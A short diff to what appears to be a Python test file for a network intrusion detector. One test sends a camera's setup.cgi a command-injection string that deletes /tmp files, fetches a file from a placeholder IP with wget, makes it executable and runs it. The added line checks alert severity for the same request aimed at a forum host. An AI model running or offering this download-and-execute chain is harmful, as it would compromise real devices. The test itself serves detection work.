@@ -70,6 +70,7 @@ def test_a_web_page_that_takes_commands() -> None:
     chain = "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/l+-O+/tmp/l;chmod+777+/tmp/l;sh+/tmp/l"
     alert = one(told([request(chain, CAMERA, source=FAR, target=CAMERA)]))
     assert (alert.actor.address, alert.severity, alert.techniques[0].technique) == (parse(FAR), Severity.high, "T1105")
+    assert one(told([request(chain, "forum.example.org", source=NEAR, target=FAR)])).severity == Severity.low
 
 
 def test_programs_for_several_processors() -> None:
